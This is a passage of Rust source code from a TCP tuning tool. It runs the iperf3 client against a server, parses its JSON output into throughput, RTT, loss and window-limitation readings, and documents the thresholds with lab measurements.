//! The TCP path test against an iperf3 server: run the real `iperf3` client with `-J` and turn
//! its JSON into a [`TcpTest`] (peer [`TestPeer::Iperf3`]), in either direction.
//!
//! The command is `iperf3 -c ADDR -p PORT -J -t SECS [-C CC] --fq-rate RATE`, and for the
//! reverse test (the server sends) `... -R --get-server-output`. iperf3 cannot take a time
//! (`-t`) and a byte count (`-n`) together, so the byte bound is kept with the rate instead:
//! RATE = max_bytes × 8 / SECS bit/s, so that SECS seconds at that rate send at most
//! max_bytes. On Linux the rate is a pacing cap (`--fq-rate`: SO_MAX_PACING_RATE, which TCP's
//! own pacing honours without the fq qdisc); elsewhere iperf3's `-b`. Not `-b` on Linux: at any
//! rate (10 Gbit/s too) it changes how iperf 3.12 writes, and a flow stays app-limited below
//! what its window allows (on the lab, one held at 189 Mbit/s by its window read 147 with
//! `-b`; four parallel ones kept 1.2 × BDP in flight instead of 1.6). A test that ran at that
//! cap was held back by it, and says so in its notes.
//!
//! The client runs in tcptune's process group (never `setsid`): a Ctrl-C at the terminal
//! reaches it too. It is killed when it runs past its time + [`GRACE`] (a server that accepts
//! and then stalls, a path that drops the connect).
//!
//! # What iperf3 reports, and what is read from it (iperf 3.12, Linux)
//! * `end.streams[0].sender`: bytes, seconds, retransmits, min/max_rtt (µs: the smoothed RTT
//!   sampled once per interval, so the lowest sits above the path's minimum by the queue at
//!   those moments), max_snd_cwnd, max_snd_wnd (the largest window the receiver advertised,
//!   bytes); `end.streams[0].receiver` the bytes the server got.
//! * `end.sender_tcp_congestion`; `start.tcp_mss` (with `-M`) or `start.tcp_mss_default`: the
//!   control connection's MSS on this path, which estimates the segments (segments = ⌈bytes /
//!   MSS⌉: iperf3 counts bytes, not segments).
//! * `intervals[]` (1 s each): the best interval's rate is the delivery rate; the highest
//!   interval RTT is the loaded RTT; the steady state is every interval after the first one
//!   within 10 % of the best rate (that first one holds the end of slow start and the losses
//!   of its overshoot into the queue); intervals of the steady state that lost segments in a
//!   burst ([`LossBursts`]: a queue overflowing) are left out of the path's loss.
//!
//! Not reported: the receiver's buffer (so no window share), TCP_INFO's limited-by times.
//!
//! # The reverse test
//! With `-R` the server sends; this host's client only receives, and its own JSON has only
//! what came here (bytes, the intervals' rates) and the sender's totals the server exchanged
//! (bytes, seconds, retransmits). With `--get-server-output` and a server run with `-J`, the
//! client's JSON carries the server's own (`server_output_json`), whose sender stream has
//! everything above: the sender's readings are read from it, and what came here from the
//! client's own receiver stream. Without it, the test reads what the client sees: the
//! goodput, the best interval's rate, the sender's retransmits; no RTT, no window.
//!
//! # Trust
//! The JSON and stderr are another program's, relaying a server tcptune does not know: text
//! from them is quoted escaped ([`crate::text::escape`]) and a congestion control name is
//! kept only when it looks like one; numbers are range-checked as they are read (a test of
//! at least one byte, no longer than it ran, receiving no more than was sent, windows TCP can
//! advertise) and the test as a whole by [`TcpTest::check`]. An iperf3 error keeps its reason:
//! iperf3 ends a message with the system's reason, which is empty when there was none ("unable
//! to receive results: "), and then its stderr or a plain "no reason given" is said instead.
//!
//! # Window-limited rule
//! A window of W bytes lets at most W × 8 / RTT bit/s through. Linux's receive autotuning keeps
//! the advertised window at least twice what a flow has in flight as long as nothing caps it
//! (an unheld 100 Mbit/s lab flow saw 53 × its rate), so an unheld flow reaches at most half of
//! that ceiling. The test counts as held by the receiver's window when the ceiling of the
//! largest window the receiver advertised (max_snd_wnd; the far end's in a forward test, this
//! host's in a reverse one) at the flow's mean RTT was below [`WINDOW_LIMIT_FACTOR`] × the
//! goodput: that window, not the path, set the rate, which is then a lower bound of the path's,
//! and the flat RTT says nothing about the queue. A held flow reads about 1–1.5 × (the
//! goodput counts the ramp; the largest window is a peak): at 1.25 × a stock iperf3 server on a
//! 150 ms / 500 Mbit/s lab path went unseen, and the advice was sized for 158 Mbit/s.
//! On a long path the ramp is most of the test, and the goodput says little: a stock server
//! at 600 ms / 100 Mbit/s held a flow to 41.9 Mbit/s in its best interval, 19.9 Mbit/s over the
//! test, under a ceiling of 51.6 Mbit/s (2.6 × the goodput, 1.23 × the best interval). So the
//! test is held too when the ceiling is below [`PEAK_LIMIT_FACTOR`] × its best interval's rate:
//! unheld flows on the lab read 2.1 × (600 ms), 4.0 × (150 ms) and 54 × (20 ms) there.
//! The interval rates are what the sender wrote each second, and a held flow on a long path
//! writes a window per round trip: its best interval ranged from about 31 to 43 Mbit/s over
//! runs of that path, near the 1.5 × line. The steadiest sign is the sender's congestion
//! window: a flow the receiver's window holds is not limited by its congestion window, which
//! grows past it (BBR's to twice the held flow's BDP), so max_snd_cwnd ≥
//! [`CWND_LIMIT_FACTOR`] × max_snd_wnd is held. Held flows at 600 ms read 1.95–1.98 ×; unheld
//! ones 0.02 × (20 ms), 0.5 × (600 ms), 0.64 × (150 ms) and 1.12 × (250 ms / 50 Mbit/s: BBR's
//! window over a standing queue).
//! iperf3 gives no send-buffer reading.

use std::io::Read as _;
use std::net::{IpAddr, SocketAddr};
use std::path::PathBuf;
use std::process::{Command, ExitStatus, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;

use super::evidence::{Direction, HeldBy, LossBursts, TcpTest, TestPeer};
use super::watch::{Seen, Watch};
use crate::error::Error;
use crate::text::Foreign;

/// How long past its test time the client may take before it is killed: iperf3 connects,
/// exchanges its parameters before the test and its results after it, each a few round trips;
/// 15 s leaves room for a slow server on a long path, and is all a server that accepts and
/// then stalls (or drips its results) can hold this end.
pub const GRACE: Duration = Duration::from_secs(15);

/// See the module docs: the window's ceiling (max_snd_wnd × 8 / RTT) below this × the goodput
/// means held by the receiver's window (an unheld receiver advertises at least twice what is in
/// flight).
pub const WINDOW_LIMIT_FACTOR: f64 = 2.0;

/// See the module docs: the window's ceiling below this × the best interval's rate means held
/// too (a held flow's best interval reaches the ceiling; an unheld one's stays under half of it).
pub const PEAK_LIMIT_FACTOR: f64 = 1.5;

/// See the module docs: the sender's largest congestion window at least this × the receiver's
/// largest window means held too.
pub const CWND_LIMIT_FACTOR: f64 = 1.5;

/// The share of the byte bound's rate a pacing cap (`--fq-rate`) is set to.
pub const PACING_CAP_SHARE: f64 = 0.95;

/// An interval within this share of the best rate ends the startup.
pub(super) const STARTUP_DONE: f64 = 0.9;

/// Longest error text quoted from iperf3, in characters.
const MAX_QUOTE: usize = 200;

/// Most bytes read from the client's stdout (a 10-s test prints about 10 KB).
const MAX_OUTPUT: u64 = 16 << 20;

/// One iperf3 test to run.
#[derive(Debug, Clone)]
pub struct Iperf3Request {
    pub addr: IpAddr,
    pub port: u16,
    /// How long to send; whole seconds (iperf3's `-t`), rounded up, at least 1.
    pub time: Duration,
    /// At most this many bytes: kept as the rate cap max_bytes × 8 / SECS, shared by the
    /// streams ([`Self::rate_bps`]).
    pub max_bytes: u64,
    /// The congestion control for the test flow (`-C`); None: the system's default.
    pub cc: Option<String>,
    /// The server sends (`-R --get-server-output`).
    pub reverse: bool,
    /// Parallel streams (`-P`, when more than one): a second run's ([`super::retest`]).
    pub streams: u32,
    /// iperf3's reporting interval (`-i`, when not its default 1 s), ms.
    pub interval_ms: u32,
    /// Pace each stream at most this fast, bit/s, below the byte bound's cap (the paced second
    /// run of [`super::retest`]).
    pub pace_bps: Option<u64>,
    /// The client program, normally "iperf3" (looked up in PATH).
    pub program: PathBuf,
}

impl Iperf3Request {
    /// A request with the default program "iperf3" and no congestion control chosen.
    pub fn new(addr: IpAddr, port: u16, time: Duration, max_bytes: u64) -> Self {
        Self {
            addr,
            port,
            time,
            max_bytes,
            cc: None,
            reverse: false,
            streams: 1,
            interval_ms: 1000,
            pace_bps: None,
            program: PathBuf::from("iperf3"),
        }
    }

    /// `-t`: the time in whole seconds, rounded up, at least 1.
    pub fn secs(&self) -> u64 {
        let whole = self.time.as_secs() + u64::from(self.time.subsec_nanos() > 0);
        whole.max(1)
    }

    /// The rate in bit/s that keeps the byte bound over [`Self::secs`], at least 1 (iperf3
    /// reads 0 as "unlimited").
    pub fn rate_bps(&self) -> u64 {
        let bits = u128::from(self.max_bytes) * 8 / u128::from(self.secs());
        u64::try_from(bits).unwrap_or(u64::MAX).max(1)
    }

    /// The option that caps each stream's rate, and its value: [`Self::rate_bps`] shared by
    /// the streams (see the module docs for why not `-b` on Linux). A pacing cap lets bursts
    /// through (the first window, a TSO burst: on loopback 3.4 % over in 2 s), so it is
    /// [`PACING_CAP_SHARE`] of that rate.
    fn rate_cap(&self) -> (&'static str, u64) {
        let streams = u64::from(self.streams.max(1));
        let (option, cap) = if cfg!(target_os = "linux") {
            #[allow(
                clippy::cast_precision_loss,
                clippy::cast_possible_truncation,
                clippy::cast_sign_loss
            )]
            let paced = (self.rate_bps() as f64 * PACING_CAP_SHARE) as u64;
            ("--fq-rate", paced / streams)
        } else {
            ("-b", self.rate_bps() / streams)
        };
        (option, self.pace_bps.map_or(cap, |p| p.min(cap)).max(1))
    }

    /// The client's arguments.
    pub fn args(&self) -> Vec<String> {
        let mut a = vec![
            "-c".to_string(),
            self.addr.to_string(),
            "-p".to_string(),
            self.port.to_string(),
            "-J".to_string(),
            "-t".to_string(),
            self.secs().to_string(),
        ];
        if let Some(cc) = &self.cc {
            a.push("-C".to_string());
            a.push(cc.clone());
        }
        let (option, rate) = self.rate_cap();
        a.push(option.to_string());
        a.push(rate.to_string());
        if self.streams > 1 {
            a.push("-P".to_string());
            a.push(self.streams.to_string());
        }
        if self.interval_ms != 1000 {
            a.push("-i".to_string());
            a.push(format!("{}", f64::from(self.interval_ms) / 1000.0));
        }
        if self.reverse {
            a.push("-R".to_string());
            a.push("--get-server-output".to_string());
        }
        a
    }
}

/// Run the test: the iperf3 client against the server at `req.addr`:`req.port`.
///
/// Errors: iperf3 not installed, or its own error (connection refused, the server busy) →
/// a measurement error quoting it; killed past its time + [`GRACE`] → a measurement error;
/// another failure to start it → a system error.
pub fn run(req: &Iperf3Request) -> Result<TcpTest, Error> {
    run_within(req, GRACE)
}

fn run_within(req: &Iperf3Request, grace: Duration) -> Result<TcpTest, Error> {
    let (json, seen) = run_json(req, grace)?;
    parse(&json, req, seen)
}

/// Runs the client for `req` and returns its JSON result and what watching its sockets saw
/// ([`super::watch`], forward tests), or iperf3's own error; killed past its time + `grace`.
pub(super) fn run_json(req: &Iperf3Request, grace: Duration) -> Result<(Value, Seen), Error> {
    if req.max_bytes == 0 {
        return Err(Error::usage("the iperf3 test needs a byte bound above 0"));
    }
    let program = req.program.display().to_string();
    let watch = (!req.reverse).then(|| Watch::start(SocketAddr::new(req.addr, req.port)));
    let mut child = Command::new(&req.program)
        .args(req.args())
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .map_err(|e| {
            if e.kind() == std::io::ErrorKind::NotFound {
                Error::measurement(format!(
                    "iperf3 is not installed (Debian: apt-get install iperf3): {} not found",
                    crate::text::comment(&program)
                ))
            } else {
                Error::system(format!("cannot start {}: {e}", crate::text::comment(&program)))
            }
        })?;
    let stdout = child.stdout.take().map(reader);
    let stderr = child.stderr.take().map(reader);
    let limit = Duration::from_secs(req.secs()) + grace;
    let start = Instant::now();
    let status = loop {
        match child.try_wait() {
            Ok(Some(status)) => break Some(status),
            Ok(None) if start.elapsed() < limit => std::thread::sleep(Duration::from_millis(50)),
            Ok(None) => {
                let _ = child.kill();
                let _ = child.wait();
                break None;
            }
            Err(e) => {
                let _ = child.kill();
                let _ = child.wait();
                return Err(Error::system(format!("waiting for iperf3: {e}")));
            }
        }
    };
    let seen = watch.map(Watch::finish).unwrap_or_default();
    let out = stdout.map(join).unwrap_or_default();
    let err = stderr.map(join).unwrap_or_default();
    let Some(status) = status else {
        return Err(Error::measurement(format!(
            "iperf3 did not finish within {} s (the test's {} s + {} s): stopped it",
            limit.as_secs(),
            req.secs(),
            grace.as_secs()
        )));
    };
    let (json, said) = split_output(&out);
    let Some(json) = json else {
        let why = first_line(if err.is_empty() { &out } else { &err }).unwrap_or_else(|| "no output".into());
        return Err(Error::measurement(format!(
            "iperf3 gave no JSON result ({status}): {}",
            quote(&why)
        )));
    };
    if let Some(e) = json.get("error") {
        let said = said.or_else(|| first_line(&err));
        return Err(iperf3_error(e, said.as_deref(), Some(status)));
    }
    Ok((json, seen))
}

/// iperf3's stdout as its JSON and the first line it printed before it: with `-J`, iperf3
/// 3.12 still prints some warnings on stdout ahead of the JSON ("WARNING:  Size of data read
/// does not correspond to offered length", when the server closed the connection mid-message),
/// and that line is the only reason it gives for the error that follows.
fn split_output(out: &[u8]) -> (Option<Value>, Option<String>) {
    if let Ok(v) = serde_json::from_slice(out) {
        return (Some(v), None);
    }
    // The JSON starts on a line of its own, "{".
    let Some(at) = out.windows(2).position(|w| w == b"\n{").map(|i| i + 1) else {
        return (None, None);
    };
    match serde_json::from_slice(&out[at..]) {
        Ok(v) => (Some(v), first_line(&out[..at])),
        Err(_) => (None, None),
    }
}

/// The first line of `bytes` with text on it, its spaces collapsed.
fn first_line(bytes: &[u8]) -> Option<String> {
    String::from_utf8_lossy(bytes)
        .lines()
        .map(|l| l.split_whitespace().collect::<Vec<_>>().join(" "))
        .find(|l| !l.is_empty())
}

/// iperf3's error (its JSON "error"), with a reason: iperf3 appends ": " and the system's
/// reason, which is empty when errno was 0 — typically the server closed the connection —
/// leaving "unable to receive results:" and nothing after it. Then its stderr line is the
/// reason, else "no reason given" and how it exited.
fn iperf3_error(e: &Value, stderr: Option<&str>, status: Option<ExitStatus>) -> Error {
    let msg = e.as_str().map_or_else(|| e.to_string(), str::to_string);
    let msg = msg.trim();
    let head = msg.trim_end_matches(':').trim_end();
    if !head.is_empty() && !msg.ends_with(':') {
        return Error::measurement(format!("iperf3: {}", quote(msg)));
    }
    let head = if head.is_empty() { "an error with no text" } else { head };
    // A stderr line repeating the message adds no reason.
    let reason = match (stderr.filter(|l| !l.contains(head)), status) {
        (Some(line), _) => quote(line),
        (None, Some(st)) => format!("no reason given (iperf3 {st}; the server may have closed the connection)"),
        (None, None) => "no reason given (the server may have closed the connection)".to_string(),
    };
    Error::measurement(format!("iperf3: {}: {reason}", quote(head)))
}

fn reader<R: std::io::Read + Send + 'static>(r: R) -> std::thread::JoinHandle<Vec<u8>> {
    std::thread::spawn(move || {
        let mut buf = Vec::new();
        let _ = r.take(MAX_OUTPUT).read_to_end(&mut buf);
        buf
    })
}

fn join(h: std::thread::JoinHandle<Vec<u8>>) -> Vec<u8> {
    h.join().unwrap_or_default()
}

/// A text from iperf3 as one line of at most [`MAX_QUOTE`] characters, control characters escaped.
fn quote(s: &str) -> String {
    let one = crate::text::comment(s.trim());
    if one.chars().count() > MAX_QUOTE {
        let cut: String = one.chars().take(MAX_QUOTE).collect();
        format!("{cut}…")
    } else {
        one
    }
}

pub(super) fn f64_of(v: &Value, key: &str) -> Option<f64> {
    v.get(key).and_then(Value::as_f64)
}

pub(super) fn u64_of(v: &Value, key: &str) -> Option<u64> {
    v.get(key).and_then(|x| {
        x.as_u64().or_else(|| {
            x.as_f64()
                .filter(|f| *f >= 0.0 && f.is_finite())
                .map(|f| f.round() as u64)
        })
    })
}

/// One interval of the test flow.
struct Interval {
    bytes: u64,
    /// Its length, s.
    seconds: f64,
    bps: f64,
    retransmits: Option<u64>,
    rtt_us: Option<f64>,
    snd_wnd: Option<u64>,
}

/// The JSON of `iperf3 -c … -J` (stdout) → the test, or iperf3's own error.
pub fn parse_json(text: &str, req: &Iperf3Request) -> Result<TcpTest, Error> {
    let v: Value =
        serde_json::from_str(text).map_err(|e| Error::measurement(format!("iperf3's JSON does not parse: {e}")))?;
    parse(&v, req, Seen::default())
}

/// The MSS the first of `docs` reports (`start.tcp_mss`, else `start.tcp_mss_default`). An
/// MSS is a 16-bit field; anything else is no MSS to count segments by.
pub(super) fn mss_of(docs: &[&Value]) -> Option<u64> {
    docs.iter()
        .filter_map(|d| d.get("start"))
        .flat_map(|s| [u64_of(s, "tcp_mss"), u64_of(s, "tcp_mss_default")])
        .flatten()
        .find(|m| (1..=65_535).contains(m))
}

/// Whose JSON holds the sender's readings: the client's own in a forward test, the server's
/// (when it came) in a reverse one.
fn senders_json<'a>(v: &'a Value, reverse: bool, notes: &mut Vec<String>) -> &'a Value {
    if !reverse {
        return v;
    }
    match v.get("server_output_json").filter(|s| s.get("end").is_some()) {
        Some(server) => server,
        None => {
            notes.push(
                "the iperf3 server sent no JSON of its own (start it with -J): the reverse test reads what this host received, the sender's totals and the retransmissions of each interval its text gives, no RTT and no window"
                    .to_string(),
            );
            v
        }
    }
}

/// The receiver's largest advertised window the sender saw (`max_snd_wnd`, else the intervals'
/// largest `snd_wnd`); one larger than TCP can advertise is no reading.
fn receiver_window(sender: &Value, intervals: &[Interval]) -> Result<Option<u64>, Error> {
    let w = u64_of(sender, "max_snd_wnd")
        .filter(|w| *w > 0)
        .or_else(|| intervals.iter().filter_map(|i| i.snd_wnd).max().filter(|w| *w > 0));
    if let Some(w) = w.filter(|w| *w > crate::tcp::MAX_WINDOW) {
        return Err(Error::measurement(format!(
            "iperf3 reported a receive window of {w} bytes; TCP advertises at most {}",
            crate::tcp::MAX_WINDOW
        )));
    }
    Ok(w)
}

fn parse(v: &Value, req: &Iperf3Request, seen: Seen) -> Result<TcpTest, Error> {
    if let Some(e) = v.get("error") {
        return Err(iperf3_error(e, None, None));
    }
    let mut notes = Vec::new();
    let doc = senders_json(v, req.reverse, &mut notes);
    let end = doc.get("end").unwrap_or(&Value::Null);
    let stream = end.get("streams").and_then(|s| s.get(0)).unwrap_or(&Value::Null);
    let Some(sender) = stream.get("sender") else {
        return Err(Error::measurement(
            "iperf3's result has no sender stream (end.streams[0].sender)",
        ));
    };
    // A reverse test's server reports an MSS of 0 (it never connected out): the client's is
    // the path's too.
    let mss = mss_of(&[doc, v]);
    let mut intervals = intervals(doc);
    // The sender's readings from the client's own JSON: the server sent none of its own.
    if req.reverse && std::ptr::eq(doc, v) {
        text_retransmits(v, u64_of(sender, "retransmits"), &mut intervals, &mut notes);
    }
    #[allow(clippy::cast_precision_loss)]
    let mut t = TcpTest {
        peer: Some(TestPeer::Iperf3),
        direction: if req.reverse {
            Direction::Reverse
        } else {
            Direction::Forward
        },
        addr: SocketAddr::new(req.addr, req.port).to_string(),
        cc: congestion(end, req, &mut notes),
        limit_s: req.secs() as f64,
        limit_bytes: req.max_bytes,
        duration_s: f64_of(sender, "seconds").unwrap_or(0.0),
        bytes: u64_of(sender, "bytes").unwrap_or(0),
        notes,
        ..TcpTest::default()
    };
    check_sender(&t, req)?;
    let (goodput, note) = if req.reverse {
        received_here(v, &mut t)?
    } else {
        goodput(stream, &t)
    };
    t.goodput_bps = goodput;
    t.notes.extend(note);
    let best = intervals.iter().map(|i| i.bps).fold(0.0, f64::max);
    t.series = series(&intervals);
    t.delivery_rate_bps = (best > 0.0).then_some(best);
    t.in_startup = still_in_startup(&intervals, best);
    if t.in_startup {
        t.notes.push(format!(
            "the flow was still growing in its last interval: {} is the highest rate it reached, a lower bound of the path's, and no loss after startup was measured; a longer --test-time lets it leave startup",
            crate::text::rate(best)
        ));
    }
    t.retrans_segs = u64_of(sender, "retransmits");
    if let Some(mss) = mss {
        segments(&mut t, mss, &intervals, best);
    }
    rtts(&mut t, sender, &intervals, seen);
    t.receiver_window = receiver_window(sender, &intervals)?;
    t.notes
        .push("iperf3 does not report the receiver's buffer: no window share (tcptune serve measures it)".to_string());
    let mean_us = f64_of(sender, "mean_rtt").filter(|r| *r > 0.0);
    let cwnd = u64_of(sender, "max_snd_cwnd").filter(|c| *c > 0);
    window_limited(&mut t, mean_us, cwnd);
    rate_cap_note(&mut t, req, best);
    t.check()
        .map_err(|why| Error::measurement(format!("iperf3's result is no measurement: {why}")))?;
    Ok(t)
}

/// Reverse test: the goodput of what came here (the client's own receiver stream, over its
/// time), and the sender's byte count checked against it — a sender cannot have sent less
/// than was received, so a count below it is the far end's error, left out with a note.
#[allow(clippy::cast_precision_loss)]
fn received_here(v: &Value, t: &mut TcpTest) -> Result<(f64, Option<String>), Error> {
    let receiver = v
        .get("end")
        .and_then(|e| e.get("streams"))
        .and_then(|s| s.get(0))
        .and_then(|s| s.get("receiver"))
        .unwrap_or(&Value::Null);
    let secs = match (f64_of(receiver, "end"), f64_of(receiver, "start")) {
        (Some(e), Some(s)) if e > s => Some(e - s),
        _ => f64_of(receiver, "seconds"),
    }
    .filter(|s| s.is_finite() && *s > 0.0);
    let (Some(bytes), Some(secs)) = (u64_of(receiver, "bytes").filter(|b| *b > 0), secs) else {
        return Err(Error::measurement(
            "iperf3's reverse result has no bytes received here (end.streams[0].receiver)",
        ));
    };
    let note = (bytes > t.bytes).then(|| {
        let n = format!(
            "the iperf3 server reported sending {} bytes, less than the {bytes} received here: its count is left out",
            t.bytes
        );
        t.bytes = bytes;
        n
    });
    Ok((bytes as f64 * 8.0 / secs, note))
}

/// The test flow's congestion control as iperf3 names it (else the one asked for with -C);
/// a name that is not one (a kernel's are at most 15 letters, digits, `_` or `-`) is left
/// out with a note quoting it escaped.
fn congestion(end: &Value, req: &Iperf3Request, notes: &mut Vec<String>) -> Option<String> {
    let Some(name) = end.get("sender_tcp_congestion").and_then(Value::as_str) else {
        return req.cc.clone();
    };
    let plain = !name.is_empty()
        && name.len() < 16
        && name
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-');
    if plain {
        Some(name.to_string())
    } else {
        notes.push(format!(
            "iperf3 named the congestion control \"{}\", which is no congestion control name: left out",
            Foreign::new(name)
        ));
        None
    }
}

/// The sender's totals in range: at least one byte (a test that moved nothing measures
/// nothing), in a time no longer than the client ran, and the server receiving no more than
/// was sent.
fn check_sender(t: &TcpTest, req: &Iperf3Request) -> Result<(), Error> {
    if t.bytes == 0 {
        return Err(Error::measurement(
            "iperf3 reported a test that moved no data: it measures nothing",
        ));
    }
    #[allow(clippy::cast_precision_loss)]
    let longest = (req.secs() as f64) + GRACE.as_secs_f64();
    if !(t.duration_s.is_finite() && t.duration_s > 0.0 && t.duration_s <= longest) {
        return Err(Error::measurement(format!(
            "iperf3 reported a test of {} s, where it ran at most {longest} s",
            t.duration_s
        )));
    }
    Ok(())
}

/// The intervals as the test's rate over time, each with its retransmissions.
fn series(intervals: &[Interval]) -> Vec<super::evidence::Point> {
    intervals
        .iter()
        .scan(0.0, |at, i| {
            *at += i.seconds;
            Some(super::evidence::Point {
                t_s: (*at * 1000.0_f64).round() / 1000.0,
                rate_bps: i.bps,
                retrans: i.retransmits,
            })
        })
        .collect()
}

/// The test flow's intervals (`intervals[].streams[0]`), those iperf3 omitted left out.
fn intervals(v: &Value) -> Vec<Interval> {
    v.get("intervals")
        .and_then(Value::as_array)
        .map(|a| {
            a.iter()
                .filter_map(|i| i.get("streams")?.get(0))
                .filter(|s| s.get("omitted").and_then(Value::as_bool) != Some(true))
                .map(|s| Interval {
                    bytes: u64_of(s, "bytes").unwrap_or(0),
                    seconds: f64_of(s, "seconds").unwrap_or(1.0),
                    bps: f64_of(s, "bits_per_second").unwrap_or(0.0),
                    retransmits: u64_of(s, "retransmits"),
                    rtt_us: f64_of(s, "rtt").filter(|r| *r > 0.0),
                    snd_wnd: u64_of(s, "snd_wnd"),
                })
                .collect()
        })
        .unwrap_or_default()
}

/// A reverse test against a server without `-J`: its text output (`server_output_text`, what
/// `--get-server-output` brings back) has a line per interval of its sending, with the
/// retransmissions in it — the loss after startup of the far end's direction, which its JSON
/// would have given. They are taken by position onto this host's intervals when the text is
/// one stream's, has as many intervals (one more: the sender's last short one) and sums to no
/// more than the sender's `total`. The text is the far end's: anything else leaves the
/// intervals as they are, with a note.
fn text_retransmits(v: &Value, total: Option<u64>, intervals: &mut [Interval], notes: &mut Vec<String>) {
    let Some(text) = v.get("server_output_text").and_then(Value::as_str) else {
        return;
    };
    match server_text_retransmits(text) {
        Some(r)
            if (r.len() == intervals.len() || r.len() == intervals.len() + 1)
                && total.is_some_and(|t| r.iter().sum::<u64>() <= t) =>
        {
            for (i, n) in intervals.iter_mut().zip(r) {
                i.retransmits = Some(n);
            }
        }
        Some(r) => notes.push(format!(
            "the iperf3 server's text gave {} intervals of retransmissions for this host's {}, or more than its total: not used",
            r.len(),
            intervals.len()
        )),
        None => {}
    }
}

/// The retransmissions of each interval in iperf3's text output of one sending stream (`[  5]
/// 0.00-1.00 sec 12.5 MBytes 105 Mbits/sec 266 240 KBytes`), omitted intervals and the summary
/// left out; None when it has none, or more than one stream's.
fn server_text_retransmits(text: &str) -> Option<Vec<u64>> {
    let mut stream = None;
    let mut each = Vec::new();
    for line in text.lines().take(100_000) {
        let Some((id, rest)) = line.strip_prefix('[').and_then(|l| l.split_once(']')) else {
            continue;
        };
        let w: Vec<&str> = rest.split_whitespace().collect();
        let interval = w.len() >= 7 && w[1] == "sec" && w[5].ends_with("bits/sec") && w[0].contains('-');
        if !interval || line.contains("omitted") || w.iter().any(|x| *x == "sender" || *x == "receiver") {
            continue;
        }
        let id = id.trim();
        if id == "SUM" || stream.is_some_and(|s| s != id) {
            return None;
        }
        stream = Some(id);
        each.push(w[6].parse::<u64>().ok().filter(|n| *n <= MAX_INTERVAL_RETRANSMITS)?);
    }
    (!each.is_empty()).then_some(each)
}

/// More retransmissions in one second than this are no reading: 100 Gbit/s of 1500-byte
/// packets is 8.3 million a second.
const MAX_INTERVAL_RETRANSMITS: u64 = 10_000_000;

/// Goodput from what the server received, over the time it took (end − start: its
/// "seconds" repeats the sender's), when it reported it: the sender's count includes what
/// still sat in its buffer at the end. Else the sender's bytes over its time. The server's
/// count is the far end's word: more than was sent is left out, with a note.
#[allow(clippy::cast_precision_loss)]
fn goodput(stream: &Value, t: &TcpTest) -> (f64, Option<String>) {
    let received = stream
        .get("receiver")
        .and_then(|r| {
            let secs = match (f64_of(r, "end"), f64_of(r, "start")) {
                (Some(e), Some(s)) if e > s => e - s,
                _ => f64_of(r, "seconds")?,
            };
            Some((u64_of(r, "bytes")?, secs))
        })
        .filter(|(b, s)| *b > 0 && s.is_finite() && *s > 0.0);
    let sender = || {
        if t.duration_s > 0.0 {
            t.bytes as f64 * 8.0 / t.duration_s
        } else {
            0.0
        }
    };
    match received {
        Some((b, _)) if b > t.bytes => (
            sender(),
            Some(format!(
                "the iperf3 server reported receiving {b} bytes, more than the {} sent: its count is left out",
                t.bytes
            )),
        ),
        Some((b, s)) => (b as f64 * 8.0 / s, None),
        None => (sender(), None),
    }
}

/// Whether the test ended in startup: no interval came after the first within 10 % of the
/// `best` rate (the rate was still growing in the last one, or there was only one).
fn still_in_startup(intervals: &[Interval], best: f64) -> bool {
    best > 0.0
        && intervals
            .iter()
            .position(|i| i.bps >= STARTUP_DONE * best)
            .is_some_and(|first| first + 1 >= intervals.len())
}

/// Segments estimated from bytes and the MSS: the whole test's, and the steady state's (after
/// the first interval within 10 % of the `best` rate), with the intervals that lost segments
/// in bursts (a queue overflowing, not random loss: [`LossBursts`]).
fn segments(t: &mut TcpTest, mss: u64, intervals: &[Interval], best: f64) {
    t.segs_out = Some(t.bytes.div_ceil(mss));
    t.notes.push(format!(
        "segments estimated as bytes / MSS ({mss} bytes): iperf3 counts bytes, not segments"
    ));
    if let Some(first) = intervals
        .iter()
        .position(|i| best > 0.0 && i.bps >= STARTUP_DONE * best)
    {
        let steady = &intervals[first + 1..];
        if !steady.is_empty() {
            let bytes: u64 = steady.iter().map(|i| i.bytes).sum();
            t.steady_segs_out = Some(bytes.div_ceil(mss));
            t.steady_retrans_segs = steady.iter().map(|i| i.retransmits).sum();
            let each: Vec<(u64, u64)> = steady
                .iter()
                .map(|i| (i.bytes.div_ceil(mss), i.retransmits.unwrap_or(0)))
                .collect();
            t.loss_bursts = t.steady_retrans_segs.and(LossBursts::find(&each));
        }
    }
}

/// The minimum and loaded RTTs (the loaded one: the highest interval RTT, else the sender's
/// max_rtt), and what watching the sending socket saw where it did: its lowest and highest.
fn rtts(t: &mut TcpTest, sender: &Value, intervals: &[Interval], seen: Seen) {
    t.min_rtt_ms = f64_of(sender, "min_rtt").filter(|r| *r > 0.0).map(|us| us / 1000.0);
    let max_interval_rtt = intervals
        .iter()
        .filter_map(|i| i.rtt_us)
        .fold(None, |m: Option<f64>, r| Some(m.map_or(r, |m| m.max(r))));
    let loaded_us = max_interval_rtt.or_else(|| f64_of(sender, "max_rtt").filter(|r| *r > 0.0));
    t.loaded_rtt_ms = loaded_us.map(|us| us / 1000.0);
    if seen.samples > 0 {
        if let Some(d) = seen.delivered_bps.filter(|d| *d > 0.0) {
            t.delivery_rate_bps = Some(d);
            t.notes.push(format!(
                "delivery rate {}: the best second of bytes delivered (acknowledged or SACKed) on this host's sending socket (iperf3's intervals count what its sender wrote, its send buffer included)",
                crate::text::rate(d)
            ));
        }
        t.min_rtt_ms = lower(t.min_rtt_ms, seen.min_rtt_ms);
        t.loaded_rtt_ms = higher(t.loaded_rtt_ms, seen.loaded_rtt_ms);
        t.shape = seen.shape;
        t.notes.push(format!(
            "RTT also read from this host's sending socket every {} ms (sock_diag, {} reads): iperf3 reports it once a second",
            super::watch::PERIOD.as_millis(),
            seen.samples
        ));
    }
}

/// The lower and the higher of two readings, either of which may be missing.
pub(super) fn lower(a: Option<f64>, b: Option<f64>) -> Option<f64> {
    match (a, b) {
        (Some(a), Some(b)) => Some(a.min(b)),
        (a, b) => a.or(b),
    }
}

pub(super) fn higher(a: Option<f64>, b: Option<f64>) -> Option<f64> {
    match (a, b) {
        (Some(a), Some(b)) => Some(a.max(b)),
        (a, b) => a.or(b),
    }
}

/// The window-limited rule of the module docs, with its note: the receiver's largest window
/// against the goodput and the best interval at the flow's mean RTT (`mean_us`; else the
/// loaded RTT), and against the sender's largest congestion window (`cwnd`).
#[allow(clippy::cast_precision_loss)]
